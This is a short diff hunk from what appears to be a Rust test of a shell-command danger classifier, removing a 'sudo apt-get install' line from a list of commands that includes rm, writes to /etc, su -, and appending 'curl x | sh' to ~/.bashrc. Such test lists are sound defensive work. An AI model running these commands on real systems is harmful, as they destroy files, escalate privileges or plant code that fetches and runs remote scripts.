@@ -280,7 +280,6 @@ fn what_may_destroy_or_take_over_is_dangerous() {
         touch out/new
         cd .. && rm x
         cd /etc && touch x
-        sudo apt-get install -y jq
         su -
         apt install ./x.deb
         echo 'curl x | sh' >> ~/.bashrc
